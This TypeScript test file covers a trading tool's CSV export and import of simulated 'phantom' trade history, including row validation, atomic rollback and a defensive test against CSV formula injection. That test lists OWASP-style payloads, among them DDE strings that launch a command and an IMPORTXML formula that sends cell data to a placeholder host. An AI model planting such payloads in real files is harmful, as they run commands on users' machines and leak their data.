/** Phantom history out and in again: the same rows, marked, checked line by line, whole or not at all (WS-21). */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { invariant } from '#core/base/invariant.ts';
import type { Phantom } from '#core/domain/phantom.ts';
import { DISPOSITIONS } from '#core/domain/score.ts';
import { openPhantomFile } from '#main/files/phantom-import.ts';
import { examplesOf } from '#main/services/learning/trainable.ts';
import { exportPhantomFile } from '#main/services/phantom-export.ts';
import { importPhantoms, type PhantomImportReport } from '#main/services/phantom-import.ts';
import type { Profile } from '#main/store/database.ts';
import { makePhantom, NOON, resolvedResult } from '#test/support/phantom-fixtures.ts';
import { emptyProfile } from '#test/support/research-profile.ts';
import { temporaryFolder } from '#test/support/temporary-folder.ts';

const LATER = NOON + 86_400_000;
const SETS = [
  { setId: 'trend', setHash: 'trend-hash', names: ['adx', 'rsi', 'slope'] },
  { setId: 'quality', setHash: 'quality-hash', names: ['depth', 'turn'] },
  { setId: 'immediate', setHash: 'immediate-hash', names: ['impulse'] },
];

function profileOf(phantoms: readonly Phantom[]): Profile {
  const profile = emptyProfile();
  for (const { setId, setHash, names } of SETS) {
    const features = names.map((name) => ({ name, meaning: '', unit: '' }));
    profile.record.registerFeatureSet(setId, setHash, features);
  }
  const written = profile.record.step((writer) => {
    for (const phantom of phantoms) writer.phantomOpened(phantom.terms.openedAt, phantom);
  });
  invariant(written.ok, 'the phantoms are written');
  return profile;
}

/** An ended phantom; `changes` to what the file shows of it. */
function ended(index: number, outcome: 'win' | 'loss' | 'timeout' = 'win'): Phantom {
  const phantom = makePhantom({ time: NOON + index * 900_000, side: index % 2 === 0 ? 'long' : 'short' });
  return { ...phantom, result: resolvedResult(phantom, outcome) };
}

async function exported(profile: Profile): Promise<string> {
  const file = join(temporaryFolder(), 'out.csv');
  const report = await exportPhantomFile({ profile, request: { filter: {}, format: 'csv', file } });
  invariant(report.ok, 'the history is exported');
  return readFileSync(file, 'utf8');
}

function imported(profile: Profile, text: string, accept = false): PhantomImportReport {
  const path = join(temporaryFolder(), 'in.csv');
  writeFileSync(path, text);
  const file = openPhantomFile(path);
  invariant(file.ok, 'the file is one of ours');
  const report = importPhantoms({ profile, file: file.value, accept, now: LATER });
  invariant(report.ok, 'the import is stored');
  return report.value;
}

function rowsOf(text: string): readonly Readonly<Record<string, string>>[] {
  const { data, errors } = Papa.parse<Record<string, string>>(text.trimEnd(), { header: true, newline: '\r\n' });
  expect(errors).toEqual([]);
  return data;
}

const price = fc.double({ min: 0.001, max: 90_000, noNaN: true });
const anyText = fc
  .oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom("'", '=', '"', ',', '\n', '\r') }),
  )
  .filter((text) => text.isWellFormed());
const feature = fc.oneof(fc.double({ noDefaultInfinity: true }), fc.integer());

const anyPhantom = fc
  .record({
    side: fc.constantFrom('long', 'short'),
    outcome: fc.constantFrom('win', 'loss', 'timeout', 'unavailable', 'gated'),
    disposition: fc.constantFrom(...DISPOSITIONS.filter((name) => name !== 'pending' && name !== 'imported')),
    reason: anyText,
    entry: price,
    risk: fc.double({ min: 0.01, max: 0.5, noNaN: true }),
    netR: fc.double({ min: 1e-9, max: 50, noNaN: true }),
    hasTp1: fc.boolean(),
    vector: fc.option(fc.array(feature, { minLength: 3, maxLength: 3 })),
    beside: fc.array(feature, { minLength: 2, maxLength: 2 }),
    regime: fc.constantFrom(null, 'low', 'extreme'),
    minutes: fc.nat(10_000),
    flags: fc.tuple(fc.boolean(), fc.boolean(), fc.boolean()),
  } as const)
  .map((facts) => facts);
type Facts = typeof anyPhantom extends fc.Arbitrary<infer T> ? T : never;

function phantomOf(facts: Facts, index: number): Phantom {
  const base = makePhantom({ time: NOON + index * 60_000, side: facts.side });
  const { entry } = facts;
  const reach = (facts.side === 'long' ? 1 : -1) * entry * facts.risk;
  const levels = { entry, stop: entry - reach, target: entry + reach * 1.5, tp1: facts.hasTp1 ? entry + reach : null };
  const [tp1Hit, ambiguous, resolvedOffline] = facts.flags;
  const isResolved = facts.outcome === 'win' || facts.outcome === 'loss' || facts.outcome === 'timeout';
  const whole = resolvedResult(base, 'timeout');
  const result = isResolved
    ? { ...whole, netR: facts.outcome === 'loss' ? -facts.netR : facts.netR, grossR: facts.netR + 0.1 }
    : { ...base.result, maxFavorableR: facts.netR };
  const [own, beside] = [facts.vector, facts.beside].map((values) =>
    values === null ? null : Float64Array.from(values),
  );
  return {
    ...base,
    signal: { ...base.signal, context: { ...base.signal.context, regime: facts.regime } },
    terms: { ...base.terms, ...levels, timeoutMs: facts.minutes * 60_000 },
    features: own ? { setId: 'trend', setHash: 'trend-hash', values: own } : null,
    besideFeatures: beside ? [{ setId: 'quality', setHash: 'quality-hash', values: beside }] : [],
    decision: { ...base.decision, disposition: facts.disposition, reason: facts.reason },
    result: { ...result, outcome: facts.outcome, tp1Hit, ambiguous },
    resolvedOffline,
  };
}

describe('phantom import', () => {
  it('WS-21: any history comes back as the same rows, marked as imported; accepted, as the same bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyPhantom, { minLength: 1, maxLength: 6 }), async (all) => {
        const text = await exported(profileOf(all.map(phantomOf)));
        const other = emptyProfile();
        const count = all.length;
        expect(imported(other, text)).toEqual({
          rowsRead: count,
          imported: count,
          known: 0,
          accepted: 0,
          rejected: [],
        });
        // Sets that no row has a vector of are not in the other record: their columns are empty here.
        const before = rowsOf(text).map(withoutEmpty);
        const marked = before.map((row) => ({ ...row, disposition: 'imported' }));
        expect(rowsOf(await exported(other)).map(withoutEmpty)).toEqual(marked);
        expect(imported(other, text, true)).toMatchObject({ imported: 0, known: count, accepted: count });
        expect(rowsOf(await exported(other)).map(withoutEmpty)).toEqual(before);
      }),
      { numRuns: 25 },
    );
  });

  it('WS-21: importing accepted rows at once gives the same bytes', async () => {
    const phantoms = [ended(0), ended(1, 'loss'), ended(2, 'timeout')];
    const text = await exported(profileOf(phantoms));
    const other = emptyProfile();
    expect(imported(other, text, true)).toMatchObject({ imported: 3, accepted: 3 });
    expect(await exported(other)).toBe(text);
    // Its life says where it came from.
    const kinds = other.history.detail(phantoms[0]?.id ?? '')?.events.map(({ decision }) => decision?.disposition);
    expect(kinds).toEqual(['rejected_score', 'imported', 'rejected_score']);
  });

  it('ML-3: what is imported is no example for training until it is accepted', async () => {
    const text = await exported(profileOf([ended(0), ended(1, 'loss')]));
    const other = emptyProfile();
    const source = { kind: 'signals', strategyIds: ['trend_pullback'], target: 'win' } as const;
    const filter = examplesOf({ source, simulated: false }, 'left out');
    imported(other, text);
    expect(other.history.count(filter ?? {})).toBe(0);
    imported(other, text, true);
    expect(other.history.count(filter ?? {})).toBe(2);
  });

  it('WS-21: what is recorded here stays as it is, however often a file is imported', async () => {
    const profile = profileOf([ended(0), ended(1)]);
    const text = await exported(profile);
    for (const accept of [false, true]) {
      expect(imported(profile, text, accept)).toMatchObject({ imported: 0, known: 2, accepted: 0 });
    }
    expect(await exported(profile)).toBe(text);
  });

  it('WS-21: a line that does not fit is rejected with line and reason; the others are imported', async () => {
    const text = await exported(profileOf([0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map((index) => ended(index))));
    const [header = '', ...lines] = text.trimEnd().split('\r\n');
    const names = header.split(',');
    const change = (line: number, name: string, cell: string) => {
      const cells = (lines[line - 2] ?? '').split(',');
      cells[names.indexOf(name)] = cell;
      lines[line - 2] = cells.join(',');
    };
    change(2, 'net_r', 'much');
    change(3, 'opened_at', '2025-02-30T12:00:00.000Z');
    change(4, 'outcome', 'open');
    change(5, 'side', 'up');
    change(6, 'stop', '1000');
    change(7, 'schema_version', '1');
    change(8, 'net_r', '-1');
    change(9, 'feature_sets', 'none');
    lines[8] += ',1';
    const copy = lines[9] ?? '';
    const report = imported(emptyProfile(), [header, ...lines, copy, ''].join('\r\n'));
    expect(report).toMatchObject({ rowsRead: 11, imported: 1 });
    expect(report.rejected).toEqual([
      { line: 2, reason: 'net_r is not a number: "much"' },
      { line: 3, reason: 'opened_at is no time like 2025-01-31T12:00:00.000Z: "2025-02-30T12:00:00.000Z"' },
      { line: 4, reason: 'it has not ended: export it again when it has, this record could not follow it' },
      { line: 5, reason: 'side is none of long, short: "up"' },
      { line: 6, reason: 'the stop of a long is on the wrong side of the entry' },
      { line: 7, reason: 'schema_version is not 2: "1"' },
      { line: 8, reason: 'a win has a net R above zero' },
      { line: 9, reason: 'feature column 1 has a value, but none of its feature sets has the feature' },
      { line: 10, reason: `it has ${names.length + 1} cells, the header ${names.length}` },
      { line: 12, reason: 'the phantom of line 11 again' },
    ]);
  });

  it('WS-21: lines are counted as an editor counts them, over texts of several lines too', async () => {
    const first = ended(0);
    const several = { ...first, decision: { ...first.decision, reason: 'one\ntwo\r\nthree "quoted", four' } };
    const text = await exported(profileOf([several, ended(1)]));
    const broken = text.replace(/,win,(?!.*,win,)/s, ',won,');
    const profile = emptyProfile();
    expect(imported(profile, broken).rejected.map(({ line }) => line)).toEqual([5] /* three lines and the header */);
    expect(profile.history.detail(several.id)?.row.dispositionReason).toBe(several.decision.reason);
  });

  it('WS-21: a fault in the middle leaves nothing behind', async () => {
    const text = await exported(profileOf([ended(0), ended(1)]));
    const path = join(temporaryFolder(), 'in.csv');
    writeFileSync(path, text);
    const file = openPhantomFile(path);
    invariant(file.ok, 'the file is one of ours');
    const profile = emptyProfile();
    let passes = 0;
    const rows = function* () {
      passes++;
      for (const row of file.value.rows()) {
        yield row;
        // The first pass checks all; the second breaks off when it has written a row.
        if (passes === 2) throw new Error('the disk is gone');
      }
    };
    expect(() => importPhantoms({ profile, file: { ...file.value, rows }, accept: false, now: LATER })).toThrow();
    expect(profile.history.count({})).toBe(0);
  });

  it('WS-21: another CSV is refused before anything is read', () => {
    const path = join(temporaryFolder(), 'other.csv');
    writeFileSync(path, 'time,open,high,low,close,volume\r\n');
    expect(openPhantomFile(path)).toMatchObject({ ok: false, error: { kind: 'unknown-format' } });
    writeFileSync(path, '');
    expect(openPhantomFile(path)).toMatchObject({ ok: false, error: { kind: 'unknown-format' } });
    expect(openPhantomFile(`${path}.not`)).toMatchObject({ ok: false, error: { kind: 'unreadable' } });
  });

  it('RE-54: fifty payloads leave no formula in a file, and come back as they were', async () => {
    const payloads = formulaPayloads();
    expect(payloads).toHaveLength(50);
    const phantoms = payloads.map((reason, index) => {
      const phantom = ended(index);
      return { ...phantom, decision: { ...phantom.decision, reason } };
    });
    const text = await exported(profileOf(phantoms));
    const cells = Papa.parse<string[]>(text, { delimiter: ',' }).data.slice(1).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?(e-?\d+)?$)/);
    const other = emptyProfile();
    imported(other, text);
    const reasons = phantoms.map(({ id }) => other.history.detail(id)?.row.dispositionReason);
    expect(reasons).toEqual(payloads);
  });
});

function withoutEmpty(row: Readonly<Record<string, string>>): Readonly<Record<string, string>> {
  return Object.fromEntries(Object.entries(row).filter(([, cell]) => cell !== ''));
}

/** What spreadsheets have been made to run (OWASP, CSV injection), behind every beginning that hides it. */
function formulaPayloads(): readonly string[] {
  const formulas = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1,2)',
    '=HYPERLINK("http://x.invalid","click")',
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://x.invalid?", A1), "//a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
  ];
  return ['', '\t', '\r', "'", '"'].flatMap((before) => formulas.map((formula) => before + formula));
}
